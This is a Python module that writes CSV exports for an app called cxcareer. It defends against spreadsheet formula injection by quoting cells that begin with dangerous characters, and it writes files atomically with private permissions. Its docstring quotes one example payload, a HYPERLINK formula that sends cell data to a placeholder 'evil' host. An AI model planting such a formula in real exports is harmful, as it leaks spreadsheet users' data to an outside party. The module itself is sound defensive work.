"""CSV export that a spreadsheet cannot turn into a formula, written atomically and privately.

Why: names, notes and plan titles are typed by people and exported for managers who open them in
Excel or LibreOffice. A cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` would be
run as a formula (CSV/formula injection). Following OWASP, a *text* cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote, which spreadsheets
show as text and which a human reader recognises. NUL characters are removed from text cells
everywhere: they carry no meaning in cxcareer's data, some programs cut the cell at them, and a
leading NUL would otherwise hide a dangerous character behind it.

Numbers the app writes *as numbers* (``int``, ``float``, ``Decimal``; not ``bool``) are left as
they are, so ``-2`` stays a negative number; the same ``"-2"`` typed as text is quoted.

Files are written UTF-8 with a BOM (so Excel reads accents in pt-BR names correctly), to a temp
file created ``0600`` in the target folder, fsynced, then renamed over the target.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

from cxcareer.store.write_target import write_target

__all__ = ["DANGEROUS_PREFIXES", "csv_row", "neutralise", "write_csv"]

DANGEROUS_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell: str) -> str:
    """``cell`` without NULs, with a leading ``'`` if a spreadsheet could read it as a formula."""
    text = cell.replace("\x00", "")
    if text.startswith(DANGEROUS_PREFIXES):
        return "'" + text
    return text


def _cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal):
        return str(value)
    if isinstance(value, float):
        return repr(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    return neutralise(str(value))


def csv_row(values: Iterable[object]) -> list[str]:
    """One CSV row: numbers as numbers, dates in ISO form, ``None`` empty, text neutralised."""
    return [_cell(value) for value in values]


def write_csv(
    path: Path,
    header: Sequence[str],
    rows: Iterable[Iterable[object]],
    *,
    force: bool = False,
    keep: Iterable[Path | None] = (),
) -> Path:
    """Write ``header`` and ``rows`` (through :func:`csv_row`) to ``path`` atomically, 0600.

    Never over an existing file unless ``force``, never over a database (``keep``: the one in
    use) or anything but a regular file: :func:`cxcareer.store.write_target.write_target`.
    """
    path = Path(path)
    with (
        write_target(path, force=force, keep=keep) as temporary,
        open(temporary, "w", encoding="utf-8-sig", newline="") as out,
    ):
        writer = csv.writer(out)
        writer.writerow(csv_row(header))
        for row in rows:
            writer.writerow(csv_row(row))
    return path
